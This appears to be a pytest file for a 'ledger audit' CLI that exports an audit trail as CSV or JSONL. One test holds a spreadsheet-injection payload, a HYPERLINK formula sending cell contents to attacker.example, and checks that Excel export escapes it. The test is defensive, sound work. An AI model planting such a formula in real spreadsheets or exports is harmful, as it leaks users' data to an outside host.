"""``ledger audit``: query the audit trail and export it for a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest

from cli.demo import REVOCATION_CATEGORY, REVOCATION_NOTE, credential_id, provider_id
from ledger.application import Ledger
from ledger.domain.principal import Principal
from tests.cli.conftest import Invoke, one_line_error


@pytest.fixture
def seeded(ledger_cli: Invoke) -> Invoke:
    assert ledger_cli("seed").exit_code == 0
    return ledger_cli


def test_the_audit_table_shows_who_did_what_and_why(seeded: Invoke) -> None:
    result = seeded("audit", "--event", "AwardRevoked", env={"COLUMNS": "250"})

    assert result.exit_code == 0, result.output
    assert "audit trail (1 events)" in result.output
    row = next(line for line in result.output.splitlines() if "AwardRevoked" in line)
    cells = [cell.strip() for cell in row.split("│")]
    assert "LearnerRecord.AwardRevoked" in cells
    assert "provider:SETU:demo-seed" in cells
    # The authority's audit: the public category and the private note.
    assert f"{REVOCATION_CATEGORY.value}: {REVOCATION_NOTE}" in cells


def test_csv_export_opens_cleanly_in_a_spreadsheet(seeded: Invoke, tmp_path: Path) -> None:
    target = tmp_path / "audit.csv"

    result = seeded("audit", "--format", "csv", "--output", str(target), "--provider", "SETU")

    assert result.exit_code == 0, result.output
    raw = target.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert rows
    assert list(rows[0]) == [
        "position",
        "timestamp",
        "aggregate_type",
        "aggregate_id",
        "aggregate_version",
        "event_type",
        "actor",
        "reason",
        "decision_reference",
        "provider_id",
        "award_id",
        "data",
    ]
    for row in rows:
        assert datetime.fromisoformat(row["timestamp"]).tzinfo is not None
        json.loads(row["data"])
    revocations = [r for r in rows if r["event_type"] == "LearnerRecord.AwardRevoked"]
    assert [r["reason"] for r in revocations] == [f"{REVOCATION_CATEGORY.value}: {REVOCATION_NOTE}"]
    assert f"wrote {len(rows)} events to {target}" in result.stderr


def test_csv_export_for_excel_starts_with_a_byte_order_mark(seeded: Invoke, tmp_path: Path) -> None:
    target = tmp_path / "audit.csv"

    result = seeded("audit", "-f", "csv", "-o", str(target), "--bom", "--event", "Accredited")

    assert result.exit_code == 0, result.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfposition,timestamp,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert {r["event_type"] for r in rows} == {"Provider.Accredited", "MicroCredential.Accredited"}
    assert all(r["decision_reference"] for r in rows)


def test_excel_export_keeps_formula_like_text_as_text(
    seeded: Invoke, open_ledger: Callable[[], Ledger], tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    ledger = open_ledger()
    # A reason a provider types (a revocation's starts with its category, so an
    # amendment's is the one that can start with anything).
    ledger.amend_micro_credential(
        credential_id("CETB", "SITE-SAFE"),
        changes={"further_information": "see the provider's site"},
        reason=hostile,
        by=Principal.provider("provider:CETB:x", provider_id("CETB")),
    )
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"

    assert seeded("audit", "-f", "csv", "-o", str(plain), "--event", "Amended").exit_code == 0
    assert (
        seeded("audit", "-f", "csv", "-o", str(excel), "--excel", "--event", "Amended").exit_code
        == 0
    )

    def reasons(path: Path) -> list[str]:
        text = path.read_bytes().decode("utf-8-sig")
        return [row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))]

    assert reasons(plain) == [hostile]
    assert reasons(excel) == ["'" + hostile]
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")


def test_jsonl_export_to_standard_output_is_one_object_per_line(seeded: Invoke) -> None:
    result = seeded("audit", "--format", "jsonl", "--actor", "authority:demo-seed", "--limit", "5")

    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 5
    entries = [json.loads(line) for line in lines]
    assert all(e["actor"] == "authority:demo-seed" for e in entries)
    assert [e["position"] for e in entries] == sorted(e["position"] for e in entries)


def test_filters_by_award_and_time(seeded: Invoke) -> None:
    everything = seeded("audit", "-f", "jsonl", "--since", "2000-01-01", "--until", "2999-01-01")
    nothing = seeded("audit", "-f", "jsonl", "--until", "2000-01-01")

    assert len(everything.stdout.splitlines()) > 60
    assert nothing.exit_code == 0
    assert nothing.stdout == ""


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "last tuesday"], "--since must be an ISO 8601 date or date-time"),
        (["--award", "12345"], "--award must be an id like"),
        (["--since", "2026-02-01", "--until", "2026-01-01"], "--since must be before --until"),
        (["--excel"], "--excel only applies to --format csv"),
        (["--output", "x.csv"], "--output needs --format jsonl or csv"),
        (["-f", "csv", "-o", "/no/such/dir/audit.csv"], "No such file or directory"),
    ],
)
def test_mistakes_are_one_line_errors(seeded: Invoke, args: list[str], message: str) -> None:
    assert message in one_line_error(seeded("audit", *args))


def test_a_moment_outside_the_utc_calendar_is_a_one_line_error(seeded: Invoke) -> None:
    result = seeded("audit", "--since", "0001-01-01T00:00:00+14:00")

    assert "outside the years 1 to 9999" in one_line_error(result)
